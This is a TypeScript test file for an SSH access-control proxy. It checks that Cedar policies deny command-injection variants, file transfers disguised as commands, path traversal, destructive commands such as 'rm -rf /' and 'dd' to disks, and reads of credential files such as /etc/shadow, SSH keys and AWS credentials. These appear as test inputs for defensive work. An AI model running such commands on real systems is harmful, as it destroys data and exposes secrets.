import { onOwnBehalf, principalId, type Facts, type Resource, type Subject } from '@sallyport/core'
import { compilePolicies, presets } from '@sallyport/policy'
import { expect, test } from 'vitest'
import { postgresVocabulary } from '../../packages/policy/src/testing/postgres-vocabulary.ts'
import { sshVocabulary } from '../../packages/policy/src/testing/ssh-vocabulary.ts'
import { factsOfCommand } from '../../packages/ssh/src/facts/command.ts'
import { factsOfFile } from '../../packages/ssh/src/facts/files.ts'
import { factsOfShell, factsOfSubsystem } from '../../packages/ssh/src/facts/requests.ts'
import { actions, facts } from '../../packages/ssh/src/vocabulary.ts'

/** What is sent over SSH, its facts, and what policies make of them. */

const olga: Subject = onOwnBehalf({
  kind: 'user',
  id: principalId('user', 'olga'),
  name: 'olga',
  groups: ['operators'],
})
const web: Resource = {
  name: 'web',
  protocol: 'ssh',
  host: 'web.internal',
  port: 22,
  agent: 'default',
  labels: { env: 'prod' },
  accounts: [{ name: 'app', credential: { from: 'none' } }],
  masking: { mode: 'strict', columns: [], detectors: [], redactors: {} },
  recording: 'batched',
  options: {},
}

const policies = {
  uptime:
    '@id("uptime") permit (principal, action == Action::"exec", resource) when { context.command == "uptime" };',
  commands: '@id("commands") permit (principal, action == Action::"exec", resource);',
  files: '@id("files") permit (principal, action in [Action::"read", Action::"write"], resource);',
  www: '@id("www") permit (principal, action in [Action::"read", Action::"write"], resource in Object::"web/files/srv/www");',
  everything: '@id("everything") permit (principal, action, resource);',
}

function decide(request: Facts, ...names: string[]) {
  const text = names.map(
    (name) =>
      policies[name as keyof typeof policies] ?? presets.find((it) => it.name === name)?.text ?? 'missing',
  )
  const point = compilePolicies({
    policies: text.map((each, i) => ({ name: `${names[i]}.cedar`, text: each })),
    vocabulary: [postgresVocabulary, sshVocabulary],
    version: '1',
  })
  return point.decide(olga, web, 'app', [request])
}

const exec = (bytes: string | Uint8Array, hasTerminal = false) =>
  factsOfCommand({ bytes: Buffer.from(bytes), hasTerminal, environment: [] })

test("the policies' words for SSH are those of its package", () => {
  expect(sshVocabulary).toEqual({ name: 'ssh', actions, facts })
})

test('a permitted command is permitted, however its words are quoted', () => {
  for (const text of ['uptime', ' uptime ', "'uptime'", '"up"time'])
    expect(decide(exec(text), 'uptime')).toMatchObject({ effect: 'allow', policies: ['uptime'] })
})

test.each([
  'uptime;id',
  'uptime $(id)',
  'uptime`id`',
  'uptime|sh',
  'uptime&&id',
  'uptime>/etc/cron.d/x',
  'uptime #',
  'uptime\nid',
  'uptime\n',
  'uptime&',
  'A=1 uptime',
  'uptime -p',
  '\\uptime',
  '/tmp/uptime',
  'uptime\0',
  'Uptime',
])('nothing else passes for it: %j', (text) => {
  expect(decide(exec(text), 'uptime').effect).toBe('deny')
})

test('bytes that are no UTF-8 are not understood, and never run as others', () => {
  const facts = exec(Buffer.from('6563686f20fffe', 'hex'))
  expect(decide(facts, 'commands')).toMatchObject({
    effect: 'deny',
    reason: 'no policy permits unparsed on web',
  })
  expect(decide(facts, 'everything', 'no-unparsed')).toMatchObject({
    effect: 'deny',
    policies: ['no-unparsed'],
  })
})

test('a shell as a command in a terminal is a command, and no shell is permitted with it', () => {
  for (const hasTerminal of [false, true]) {
    expect(decide(exec('bash', hasTerminal), 'uptime').effect).toBe('deny')
    expect(exec('bash', hasTerminal).context).toMatchObject({ dynamic: true, terminal: hasTerminal })
  }
  expect(decide(factsOfShell({ hasTerminal: true, environment: [] }), 'commands').effect).toBe('deny')
})

test.each(['SFTP', 'sftp ', 'netconf', 'powershell', 'sftp\0', ''])(
  'whoever may transfer files may not start the subsystem %j',
  (name) => {
    expect(decide(factsOfSubsystem(Buffer.from('sftp')), 'files').effect).toBe('allow')
    expect(decide(factsOfSubsystem(Buffer.from('sftp')), 'commands').effect).toBe('deny')
    expect(decide(factsOfSubsystem(Buffer.from(name)), 'files').effect).toBe('deny')
  },
)

test.each([
  '/usr/lib/openssh/sftp-server',
  'internal-sftp',
  'scp -t /etc',
  'scp -f /etc/shadow',
  'rsync --server -e.LsfxC . /etc',
  'rsync --server --sender -e.LsfxC . /etc',
  "git-upload-pack '/srv/r.git'",
  'sudo scp -t /etc',
  'scp -f *.txt',
  '/tmp/sftp-server',
])('who may run commands may not transfer files by them: %s', (text) => {
  expect(decide(exec(text), 'commands').effect).toBe('deny')
})

test.each([
  'scp -t /etc/x',
  'scp -f /etc/shadow',
  'rsync --server -e.LsfxC . /srv/wwwx',
  'scp -f /srv/www/../../etc/shadow',
])('a directory that is permitted to SFTP is permitted to others, and no more: %s', (text) => {
  expect(decide(exec(text), 'www').effect).toBe('deny')
  expect(decide(exec('scp -f /srv/www/a'), 'www').effect).toBe('allow')
  const path = { bytes: Buffer.from('/srv/www/a') }
  expect(decide(factsOfFile({ kind: 'remove', path }, { transfer: 'sftp' }), 'www').effect).toBe('allow')
})

test.each([
  ['rm -rf /', 'no-removal-of-system-trees'],
  ['sudo rm -fr -- /usr/', 'no-removal-of-system-trees'],
  ["sh -c 'cd / && rm --recursive *'", 'no-removal-of-system-trees'],
  ['rm -rf "$X"/', 'no-removal-of-system-trees'],
  ['find / -delete', 'no-removal-of-system-trees'],
  ['nohup mkfs.ext4 /dev/sda1 &', 'no-formatting'],
  ['dd if=/dev/zero of=/dev/sda bs=1M', 'no-writing-to-devices'],
  ['cat x > /dev/sda', 'no-writing-to-devices'],
  ['sudo -n systemctl reboot', 'no-stopping-the-machine'],
  ['/sbin/shutdown -h now', 'no-stopping-the-machine'],
  ['userdel bob', 'no-removal-of-accounts'],
])('what destroys is refused: %s', (text, policy) => {
  expect(decide(exec(text), 'everything', 'ssh-destructive-commands')).toMatchObject({
    effect: 'deny',
    policies: [policy],
  })
})

test.each([
  'rm -rf /srv/app/build',
  'ls /etc',
  'dd if=/dev/zero of=x',
  'systemctl restart nginx',
  'x >/dev/null',
])('what does not is left to other policies: %s', (text) => {
  expect(decide(exec(text), 'everything', 'ssh-destructive-commands').effect).toBe('allow')
})

test.each([
  'cat /etc/shadow',
  'cd /etc; cat shadow',
  'cat ~/.ssh/id_ed25519',
  'base64 <~root/.aws/credentials',
  'tar cf - .kube',
  'curl --data @/srv/tls/web.pem x',
  'cp --no-clobber /tmp/k .ssh/authorized_keys',
  'echo x >>/home/bob/.ssh/authorized_keys',
  'scp -f /etc/shadow',
  "sudo sh -c 'cat /etc/sudoers'",
  "git-upload-pack '~/.ssh'",
])('a file with credentials is out of bounds: %s', (text) => {
  expect(decide(exec(text), 'everything', 'ssh-credential-files')).toMatchObject({
    effect: 'deny',
    policies: ['no-credential-files'],
  })
})

test('so it is by SFTP, also through a symbolic link', () => {
  const no = { write: false, append: false, create: false, truncate: false, exclusive: false }
  const open = (bytes: string, real?: string) =>
    factsOfFile(
      {
        kind: 'open',
        path: { bytes: Buffer.from(bytes), real: real === undefined ? undefined : Buffer.from(real) },
        flags: { ...no, read: true },
      },
      { transfer: 'sftp' },
    )
  for (const facts of [
    open('/etc/shadow'),
    open('.ssh/id_rsa'),
    open('/srv/x', '/etc/shadow'),
    open('/srv/web.KEY'),
  ])
    expect(decide(facts, 'everything', 'ssh-credential-files').effect).toBe('deny')
  expect(decide(open('/srv/x'), 'everything', 'ssh-credential-files').effect).toBe('allow')
})

test.each([
  ['uptime', 'allow'],
  ['systemctl status nginx', 'allow'],
  ['systemctl status nginx; rm -rf /', 'deny'],
  ['systemctl status -H db nginx', 'review'],
  ['sudo systemctl restart nginx', 'review'],
  ['docker restart web', 'review'],
  ['sudo -u bob systemctl restart nginx', 'deny'],
  ['sudo systemctl restart nginx && id', 'deny'],
  ['./systemctl restart nginx', 'deny'],
  ['kubectl delete pod "$X"', 'deny'],
])('services are looked at freely, and changed by review: %s', (text, effect) => {
  expect(decide(exec(text), 'ssh-service-control').effect).toBe(effect)
})
